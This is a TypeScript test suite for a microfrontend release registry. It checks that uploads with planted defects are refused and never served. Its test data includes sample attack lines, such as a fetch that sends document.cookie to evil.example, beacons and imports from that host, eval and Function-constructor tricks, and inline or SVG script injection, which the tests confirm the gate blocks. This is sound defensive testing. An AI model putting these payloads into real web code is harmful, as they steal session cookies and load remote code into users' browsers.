/**
 * The gate at the registry, over HTTP and without the commands: three calls with the deploy token of a team, as anybody could
 * send them. Each planted defect is refused in words, and nothing of it is served.
 */
import { randomBytes } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { startTestApp, type TestApp } from '../../../test/app.ts'
import {
  containerScript,
  integrityOf,
  releaseShell,
  type SampleRelease,
  sampleRelease,
  sampleShell,
} from '../../../test/releases.ts'

type Rest = Partial<SampleRelease['manifest']>

let site: TestApp
let url: string
let count = 0

beforeAll(async () => {
  site = await startTestApp({ areas: ['releases'] })
  url = await site.app.listen({ port: 0, host: '127.0.0.1' })
  await releaseShell(site, sampleShell('1.0.0-0000aaaa', { '@onfreq/session/session': ['useSession'] }))
  expect((await send(await tokenOf('globe'), sampleRelease('globe', '1.0.0-0000aaaa'))).status).toBe(200)
})
afterAll(() => site.close())

const tokenOf = (name: string) => site.app.releases.createDeployToken(name, `ci of ${name}`)

/** A release of a new id with other files. */
function planted(name: string, files: Readonly<Record<string, string | null>>, rest: Rest = {}): SampleRelease {
  count += 1
  const id = `1.0.${count}-${count.toString(16).padStart(8, '0')}`
  const base = sampleRelease(name, id, rest)
  const contents = { ...base.contents, ...files }
  const kept = Object.entries(contents).filter((each): each is [string, string] => each[1] !== null)
  const own = Object.fromEntries(
    kept.map(([path, text]) => [
      path,
      text.replaceAll('HASH', id.slice(-8)).replaceAll('CONTAINER', base.manifest.container),
    ]),
  )
  const hashes = Object.fromEntries(Object.entries(own).map(([path, text]) => [path, integrityOf(text)]))
  return { manifest: { ...base.manifest, files: hashes, ...rest }, contents: own }
}

interface Answer {
  readonly status: number
  readonly body: { readonly error?: { readonly code: string; readonly message: string }; readonly moved?: boolean }
}

async function call(token: string, path: string, body: unknown): Promise<Answer> {
  const answer = await fetch(`${url}/api/${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })
  return { status: answer.status, body: await answer.json() }
}

async function put(token: string, { manifest }: SampleRelease, path: string, body: string): Promise<number> {
  const address = `${url}/api/releases/uploads/${manifest.name}/${manifest.id}?file=${encodeURIComponent(path)}`
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' }
  return (await fetch(address, { method: 'PUT', headers, body })).status
}

/** Announces, uploads, publishes. */
async function send(token: string, release: SampleRelease, channel = 'stable'): Promise<Answer> {
  const { manifest, contents } = release
  const opened = await call(token, 'releases/uploads', { manifest })
  if (opened.status !== 200) return opened
  for (const [path, text] of Object.entries(contents)) await put(token, release, path, text)
  return call(token, 'releases', { microfrontend: manifest.name, id: manifest.id, channel })
}

async function isServed({ manifest }: SampleRelease): Promise<boolean> {
  return (await fetch(`${url}${manifest.entry}`)).status === 200
}

const page = (paths: string[], rest: object = {}) => ({
  pages: [{ name: 'page', paths, title: 'Page', guard: 'none' as const, hide: [], firstData: [], ...rest }],
  widgets: [],
  embeds: [],
})
const consumes = (module: string, range: string) =>
  `;(()=>({moduleIdToConsumeDataMapping:{7:{shareKey:${JSON.stringify(module)},import:null,requiredVersion:${JSON.stringify(range)}}}}))()`

const CONTAINER = containerScript('CONTAINER', ['./app'])

const DEFECTS: readonly [what: string, files: Readonly<Record<string, string | null>>, rest: Rest, says: RegExp][] = [
  ['an entry that is no container', { 'entry.js': 'globalThis.__evil=1' }, {}, /container: the entry is no container/],
  ['an entry that is no script', { 'entry.js': 'var {' }, {}, /container: entry\.js is no script that can be read/],
  [
    'a container that does not expose its page',
    { 'entry.js': containerScript('CONTAINER', ['./other']) },
    {},
    /container: the entry does not expose \.\/app/,
  ],
  [
    'the container of somebody else',
    {},
    { container: 'mfe_globe_0000aaaa' },
    /container: the container is called mfe_globe/,
  ],
  [
    'a shared name that no shell has',
    {},
    { uses: { '@onfreq/session/session': ['useSession', 'nothere'] } },
    /shared: nothere of @onfreq\/session\/session is used, the shell \S+ does not have it/,
  ],
  [
    'React ^20',
    {},
    { requires: { react: '^20.0.0' } },
    /shared: react \^20\.0\.0 is required, the shell \S+ has 19\.0\.0/,
  ],
  [
    'React ^20 that the manifest keeps quiet about',
    { 'entry.js': CONTAINER + consumes('react', '^20.0.0') },
    { requires: {} },
    /shared: it takes react \^20\.0\.0 and does not say so/,
  ],
  [
    'another range in its bytes than in its manifest',
    { 'entry.js': CONTAINER + consumes('react/jsx-runtime', '^20.0.0') },
    { requires: { react: '^19.0.0' } },
    /shared: it takes react\/jsx-runtime \^20\.0\.0 and says that it requires \^19\.0\.0/,
  ],
  ['the path of another part', {}, { config: page(['/plant', '/globe']) }, /claims: the path \/globe belongs to globe/],
  ['that path in capitals and with a slash', {}, { config: page(['/GLOBE/']) }, /belongs to globe/],
  ['what lies under the path of another part', {}, { config: page(['/globe/:id?']) }, /belongs to globe/],
  ['a path that nobody granted', {}, { config: page(['/login']) }, /claims: the path \/login was not granted to plant/],
  ['every callsign', {}, { config: page(['/:callsign']) }, /claims: the path \/:callsign was not granted/],
  [
    'a widget of another part',
    {},
    { config: { ...page([]), pages: [], widgets: ['globe/globe'] } },
    /widget globe\/globe belongs to globe/,
  ],
  [
    'more than its budget',
    { 'more.js': `"${randomBytes(45_000).toString('hex')}"` },
    {
      preload: { page: ['entry.js', 'page.css', 'more.js'] },
      config: { ...page(['/plant']), budget: { page: 40_000 } },
    },
    /budget: page is \d+ bytes compressed, the budget is 40000/,
  ],
  [
    'more than any budget, which it declares itself',
    { 'more.js': `"${randomBytes(300_000).toString('hex')}"` },
    { preload: { page: ['entry.js', 'more.js'] }, config: { ...page(['/plant']), budget: { page: 9_000_000 } } },
    /the budget is 200000/,
  ],
  [
    'styles of the whole page',
    { 'page.css': '@layer mfe{body{background:red}}' },
    {},
    /styles: page\.css body reaches elements of others/,
  ],
  ['styles in no layer', { 'page.css': '.a-b-HASH{color:red}' }, {}, /page\.css \.a-b-\w+ stands in no layer/],
  [
    'styles in the layer of others',
    { 'page.css': '@layer base{.a-b-HASH{color:red}}' },
    {},
    /@layer base belongs to others/,
  ],
  [
    'styles for the brother of its elements',
    { 'page.css': '@layer mfe{.a-b-HASH~header{display:none}}' },
    {},
    /reaches elements of others/,
  ],
  [
    'styles behind :has()',
    { 'page.css': '@layer mfe{header:has(.a-b-HASH){display:none}}' },
    {},
    /reaches elements of others/,
  ],
  [
    'styles that are nested',
    { 'page.css': '@layer mfe{.a-b-HASH{body &~header{display:none}}}' },
    {},
    /reaches elements of others/,
  ],
  [
    'a font that everybody would get',
    { 'page.css': '@font-face{font-family:Inter;src:url(a.woff2)}' },
    {},
    /@font-face Inter is a name of the whole page/,
  ],
  [
    'a picture from elsewhere',
    { 'page.css': '@layer mfe{.a-b-HASH{background:url(//evil.example/x.png)}}' },
    {},
    /reaches for \/\/evil\.example/,
  ],
  ['another style sheet', { 'page.css': '@import "https://evil.example/x.css";' }, {}, /brings another style sheet/],
  ['eval', { 'more.js': 'eval(location.hash)' }, {}, /scripts: more\.js uses eval/],
  ['eval by another way', { 'more.js': '(0,window["eval"])(location.hash)' }, {}, /uses eval/],
  ['Function', { 'more.js': 'new Function("a","return a")' }, {}, /makes a function of a text/],
  [
    'Function by another name',
    { 'more.js': '[].constructor.constructor("alert(1)")()' },
    {},
    /makes a function of a text/,
  ],
  ['a timer that runs a text', { 'more.js': 'setTimeout("alert(1)",1)' }, {}, /gives setTimeout a text to run/],
  [
    'a call to elsewhere',
    { 'more.js': 'fetch("https://evil.example/?"+document.cookie)' },
    {},
    /reaches for https:\/\/evil\.example/,
  ],
  [
    'a beacon to elsewhere',
    { 'more.js': `navigator.sendBeacon(\`//evil.example/\${1}\`,"")` },
    {},
    /reaches for \/\/evil\.example/,
  ],
  [
    'code from elsewhere',
    { 'more.js': 'import("https://evil.example/x.js")' },
    {},
    /imports from https:\/\/evil\.example/,
  ],
  [
    'a script element from elsewhere',
    { 'more.js': 'let s=document.createElement("script");s.src="https://evil.example/x.js"' },
    {},
    /sets src to https:\/\/evil\.example/,
  ],
  [
    'an inline script',
    { 'more.js': 'document.body.innerHTML="<script>alert(1)</script>"' },
    {},
    /writes an inline script/,
  ],
  ['an inline script in JSX', { 'more.js': 'jsx("script",{children:"alert(1)"})' }, {}, /writes an inline script/],
  ['a document', { 'page.html': '<script>alert(1)</script>' }, {}, /page\.html is of a kind that no release may hold/],
  ['a picture that runs', { 'a.svg': '<svg onload="alert(1)"/>' }, {}, /a\.svg holds a script/],
]

describe('a release that is sent without the commands', () => {
  test('comes in when nothing is wrong with it, and its report is kept', async () => {
    const release = planted('fine', { 'more.js': 'const help = "<script src=…> goes into your page"' })
    expect(await send(await tokenOf('fine'), release)).toMatchObject({ status: 200, body: { moved: true } })
    await expect.poll(() => isServed(release)).toBe(true)
    const stored = await site.app.releases.report('fine', release.manifest.id)
    expect(stored?.report).toMatchObject({ verdict: 'passed', uses: { widgets: [], requires: {} } })
  })

  test.each(DEFECTS)('is refused with %s', async (_what, files, rest, says) => {
    const release = planted('plant', files, rest)
    const answer = await send(await tokenOf('plant'), release)
    expect(answer.body.error?.message).toMatch(says)
    expect(answer.status).toBe(409)
    expect(await isServed(release)).toBe(false)
    expect((await site.app.releases.report('plant', release.manifest.id))?.report.verdict).toBe('refused')
    const { registry } = await site.app.releases.current()
    expect(registry.microfrontends.map(({ name }) => name)).not.toContain('plant')
  })

  test('takes nobody’s pages: the three calls with foreign paths are answered with the names of their owners', async () => {
    for (const name of ['logs', 'news']) await send(await tokenOf(name), planted(name, {}))
    const release = planted(
      'feeds',
      { 'entry.js': 'globalThis.__evil=1' },
      { config: page(['/globe', '/logs', '/news']) },
    )
    const { status, body } = await send(await tokenOf('feeds'), release)
    expect(status).toBe(409)
    for (const owner of ['globe', 'logs', 'news'])
      expect(body.error?.message).toContain(`the path /${owner} belongs to ${owner}`)
    const honest = await send(await tokenOf('feeds'), planted('feeds', {}, { config: page(['/globe']) }))
    expect(honest).toMatchObject({ status: 409, body: { error: { code: 'releases.claimed' } } })
  })

  test('is refused while half of it is there, and with other bytes than announced', async () => {
    const token = await tokenOf('half')
    const release = planted('half', {})
    const { manifest, contents } = release
    await call(token, 'releases/uploads', { manifest })
    await put(token, release, 'entry.js', contents['entry.js']!)
    const half = await call(token, 'releases', { microfrontend: 'half', id: manifest.id, channel: 'stable' })
    expect(half).toMatchObject({ status: 409, body: { error: { code: 'releases.incomplete' } } })
    expect(await put(token, release, 'page.css', 'body{}')).toBe(409)
    expect(await isServed(release)).toBe(false)
  })
})

describe('what cannot be known', () => {
  test('reaches a canary, and never stable or embeds, by no way', async () => {
    const token = await tokenOf('quiet')
    expect((await send(token, planted('quiet', {}))).status).toBe(200)
    // Built before anybody wrote down which names it takes.
    const whole = planted('quiet', {})
    const { uses: _uses, ...manifest } = whole.manifest
    const release = { ...whole, manifest }
    const stable = await send(token, release)
    expect(stable).toMatchObject({ status: 409, body: { error: { code: 'releases.unknown' } } })
    expect(stable.body.error?.message).toContain('what is taken from the shell')
    expect((await send(token, release, 'canary')).status).toBe(200)
    expect((await send(token, release, 'embed')).status).toBe(409)
    const back = { microfrontend: 'quiet', id: manifest.id, reason: 'round the corner' }
    expect((await call(token, 'releases/rollback', back)).status).toBe(409)
    await expect(site.app.releases.promote('quiet', 'it is fine', { name: 'a test' })).rejects.toThrow(/not on stable/)
    const pin = { microfrontend: 'quiet', channel: 'stable', id: manifest.id, reason: 'it is fine' } as const
    await expect(site.app.releases.pin(pin, { name: 'a test' })).rejects.toThrow(/not on stable/)
  })
})

describe('what others use', () => {
  const gadget = (widgets: string[], rest: object = {}): Rest => ({
    version: `0.${count + 2}.0`,
    config: { pages: [], widgets, embeds: [], ...rest },
    preload: Object.fromEntries(widgets.map((widget) => [widget.replace('gadgets/', 'widgets/'), ['entry.js']])),
  })
  const entry = (names: string[]) => ({
    'entry.js': containerScript(
      'CONTAINER',
      names.map((name) => `./widgets/${name}`),
    ),
  })

  test('is not taken away before its last day, whatever the version allows', async () => {
    const token = await tokenOf('gadgets')
    const both = gadget(['gadgets/clock', 'gadgets/bell'])
    expect((await send(token, planted('gadgets', entry(['clock', 'bell']), both))).status).toBe(200)
    // Not in its manifest, but in its bytes.
    const user = planted('tower', { 'more.js': '(0,e.jsx)(t.RemoteWidget,{id:"gadgets/clock",props:{}})' })
    expect((await send(await tokenOf('tower'), user)).status).toBe(200)

    const without = () => planted('gadgets', entry(['bell']), gadget(['gadgets/bell']))
    const refused = await send(token, without())
    expect(refused.status).toBe(409)
    expect(refused.body.error?.message).toContain(
      `surface: tower ${user.manifest.id} uses the widget gadgets/clock: declare it deprecated with a date first`,
    )
    // What nobody uses may go with a version that may break.
    expect((await send(token, planted('gadgets', entry(['clock']), gadget(['gadgets/clock'])))).status).toBe(200)

    const day = new Date(site.clock.millis() + 86_400_000).toISOString().slice(0, 10)
    const dated = planted(
      'gadgets',
      entry(['clock']),
      gadget(['gadgets/clock'], { deprecated: { 'gadgets/clock': day } }),
    )
    expect((await send(token, dated)).status).toBe(200)
    const none = () => planted('gadgets', entry(['chime']), gadget(['gadgets/chime']))
    expect((await send(token, none())).body.error?.message).toContain(`it may go after ${day}`)
    site.clock.advance(2 * 86_400_000)
    expect((await send(token, none())).status).toBe(200)
  })

  test('keeps a shell out that lacks a name which a released part takes', async () => {
    const user = planted('teller', {}, { uses: { '@onfreq/session/session': ['useSession'] } })
    expect((await send(await tokenOf('teller'), user)).status).toBe(200)
    const next = sampleShell('2.0.0-0000bbbb', { '@onfreq/session/session': ['signIn'] })
    const answer = await send(await tokenOf('shell'), next)
    expect(answer.status).toBe(409)
    expect(answer.body.error?.message).toContain(
      `teller ${user.manifest.id}: useSession of @onfreq/session/session is used`,
    )
  })
})
